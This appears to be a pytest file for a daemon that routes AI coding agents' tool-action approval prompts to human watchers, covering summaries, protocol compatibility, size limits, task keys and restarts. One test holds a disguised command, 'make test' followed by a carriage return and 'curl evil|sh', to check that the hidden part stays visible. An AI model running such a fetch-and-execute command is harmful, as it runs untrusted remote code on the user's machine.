"""Structured actions on questions and tasks found again by an external key, over a real daemon."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from pathlib import Path

import msgspec
import pytest

from core import protocol as p
from core.assembly import Assembly
from core.client import Client
from core.errors import BadRequest
from core.model import MAX_ACTION_INPUT, Action, Prompt, Question
from core.server import Daemon
from tests.support import until
from tests.wire.conftest import HEARTBEAT, make_registry
from tests.wire.test_commands import raw_request

Connect = Callable[..., Awaitable[Client]]

EDIT = Action(
    agent="claude",
    tool="Edit",
    input={"file_path": "/repo/app.py", "old_string": "x = 1\n", "new_string": "x = 2\n"},
    cwd="/repo",
    session="5f1c-aa",
)


class OldAsk(msgspec.Struct, tag="ask", tag_field="op", kw_only=True):
    """`Ask` as a client from before actions spells it."""

    task_id: int
    question: str
    choices: list[str] | None = None


class OldRequest(msgspec.Struct, kw_only=True):
    id: str
    version: int
    body: OldAsk


class OldPrompt(msgspec.Struct, kw_only=True):
    """`Prompt` as a client from before actions reads it."""

    id: int
    task_id: int
    question: str
    choices: list[str]
    state: str


class OldPromptResult(msgspec.Struct, tag="prompt", tag_field="type"):
    prompt: OldPrompt


class OldReply(msgspec.Struct, kw_only=True):
    id: str
    ok: bool
    result: OldPromptResult | None = None


def test_summary_is_derived_from_the_tool_when_not_given() -> None:
    bash = Action(agent="claude", tool="Bash", input={"command": "pytest -q"})
    assert bash.summary == "pytest -q"
    assert Action(agent="claude", tool="Bash", input={"command": "a\nb"}).summary == "a…"
    assert Action(agent="codex", tool="shell", input={"command": ["rm", "-r", "a b"]}).summary == (
        "rm -r 'a b'"
    )
    assert EDIT.summary == "/repo/app.py"
    assert Action(agent="claude", tool="Write", input={"file_path": "/n.txt"}).summary == "/n.txt"
    assert Action(agent="claude", tool="WebFetch", input={"url": "https://x.io"}).summary == (
        "https://x.io"
    )
    assert Action(agent="mcp", tool="Glob", input={"pattern": "*"}).summary == "Glob(...)"
    assert Action(agent="claude", tool="Bash", input={"command": "ls"}, summary="list").summary == (
        "list"
    )
    # a carriage return does not end the summary: what follows it stays in view (escaped
    # where it is shown)
    disguised = Action(agent="claude", tool="Bash", input={"command": "make test\rcurl evil|sh"})
    assert disguised.summary == "make test\rcurl evil|sh"
    long = Action(agent="claude", tool="Bash", input={"command": "echo " + "x" * 500}).summary
    assert len(long) == 200 and long.endswith("…")


async def test_an_asked_action_reaches_events_snapshots_and_the_answer(
    daemon: Daemon, connect: Connect
) -> None:
    asker, watcher = await connect(client_name="hook"), await connect(client_name="tui")
    await watcher.start_mirror()
    task = await asker.open_task("claude session", agent="claude", lease=30)
    answered: asyncio.Future[Prompt] = asyncio.get_running_loop().create_future()

    async def ask() -> None:
        answered.set_result(await task.ask("Edit /repo/app.py?", action=EDIT))

    asking = asyncio.create_task(ask())
    await until(lambda: any(t.blocked_on for t in watcher.mirror.tasks.values()),
                what="the question in the watcher's mirror")
    [pending] = watcher.mirror.pending_oldest_first()
    assert pending.action == EDIT
    blocked_on = watcher.mirror.tasks[task.id].blocked_on
    assert blocked_on is not None and blocked_on.summary == "/repo/app.py"
    snapshot = await watcher.snapshot()
    assert [q.action for q in snapshot.prompts] == [EDIT]
    _, history = await watcher.get(task.id)
    assert history[0].action == EDIT
    await watcher.answer(pending.id, "approve")
    await asking
    closed = answered.result()
    assert closed.action == EDIT and closed.answer == "approve"


async def test_an_older_client_without_actions_asks_and_reads_the_reply(
    daemon: Daemon, connect: Connect
) -> None:
    client = await connect()
    task = await client.open_task("old reporter")
    old = OldRequest(id="old-1", version=p.PROTOCOL_VERSION,
                     body=OldAsk(task_id=task.id, question="Go?", choices=["yes", "no"]))
    reply = await raw_request(daemon.connection.commands, msgspec.msgpack.encode(old))
    assert reply.ok and isinstance(reply.result, p.PromptResult)
    assert reply.result.prompt.action is None
    # A new daemon's prompt with an action decodes with the old shape: the field is ignored.
    new = p.Reply(id="r", ok=True, result=p.PromptResult(prompt=Prompt(
        id=7, task_id=task.id, question="Edit?", action=EDIT)))
    seen = msgspec.msgpack.decode(p.encode(new), type=OldReply)
    assert seen.result is not None and seen.result.prompt.question == "Edit?"


async def test_an_oversized_action_input_is_one_bad_request(
    daemon: Daemon, connect: Connect
) -> None:
    client = await connect()
    task = await client.open_task("writes a big file")
    big = {"file_path": "/big", "content": "x" * (MAX_ACTION_INPUT + 1)}
    with pytest.raises(BadRequest, match=r"Write action's input is \d+ bytes, over the cap"):
        Action(agent="claude", tool="Write", input=big)
    raw = {"id": "big-1", "version": p.PROTOCOL_VERSION, "body": {
        "op": "ask", "task_id": task.id, "question": "Write?",
        "action": {"agent": "claude", "tool": "Write", "input": big}}}
    reply = await raw_request(daemon.connection.commands, msgspec.msgpack.encode(raw))
    assert not reply.ok and reply.error is not None and reply.error.code == "BAD_REQUEST"
    assert "over the cap of 262144" in reply.error.message
    assert reply.id == "big-1"
    bad_tool = {**raw, "id": "big-2", "body": {**raw["body"], "action": {  # type: ignore[dict-item]
        "agent": "claude", "tool": "T" * 200, "input": {}}}}
    reply = await raw_request(daemon.connection.commands, msgspec.msgpack.encode(bad_tool))
    assert not reply.ok and "action.tool" in reply.error.message  # type: ignore[union-attr]
    assert (await client.hello())["version"] == p.PROTOCOL_VERSION  # the daemon lives on
    assert daemon.registry.get(task.id).blocked_on is None


async def test_a_key_finds_its_live_task_again(daemon: Daemon, connect: Connect) -> None:
    first, second = await connect(), await connect()
    session = await first.open_task("claude session", agent="claude", key="claude:S1")
    again = await second.open_task("claude session (hook 2)", agent="claude", key="claude:S1")
    assert again.id == session.id and again.task.description == "claude session"
    sub = await second.open_task("sub-agent", agent="claude", parent_id=session.id,
                                 key="claude:S1/A1")
    other = await second.open_task("another session", agent="claude", key="claude:S2")
    plain = await second.open_task("no key")
    assert len({session.id, sub.id, other.id, plain.id}) == 4
    assert (await second.open_task("x", key="claude:S1/A1")).id == sub.id
    assert daemon.registry.get(session.id).key == "claude:S1"
    await sub.finish("done")
    fresh = await second.open_task("sub-agent, later", parent_id=session.id, key="claude:S1/A1")
    assert fresh.id not in (sub.id, session.id)  # an ended task is never found again
    with pytest.raises(BadRequest, match="key"):
        await second.open_task("blank", key="   ")
    with pytest.raises(BadRequest, match="key"):
        await second.open_task("empty", key="")


@pytest.mark.timeout(30)
async def test_a_key_and_an_action_outlive_a_daemon_restart(
    runtime_dir: Path, tmp_path: Path, connect: Connect
) -> None:
    journal = tmp_path / "journal.sqlite3"

    def deck() -> Assembly:
        return Assembly(lambda first_id: make_registry(first_id=first_id),
                        runtime_dir=runtime_dir, journal=journal, heartbeat=HEARTBEAT)

    async with deck():
        client = await connect()
        task = await client.open_task("claude session", agent="claude", lease=60,
                                      key="claude:S9")
        asked = await client.request(p.Ask.of(task.id, Question(text="Edit?", action=EDIT)))
        assert isinstance(asked, p.PromptResult)
        await client.close()
    async with deck() as again:
        client = await connect()
        found = await client.open_task("claude session (after restart)", key="claude:S9")
        assert found.id == task.id
        [pending] = again.registry.pending_prompts()
        assert pending.action == EDIT
        await client.answer(pending.id, "deny", reason="not that file")
        [decision] = await client.history(task_id=task.id)
        assert decision.question == "Edit?"
        _, prompts = await client.get(task.id)
        assert prompts[0].action == EDIT and prompts[0].answer == "deny"
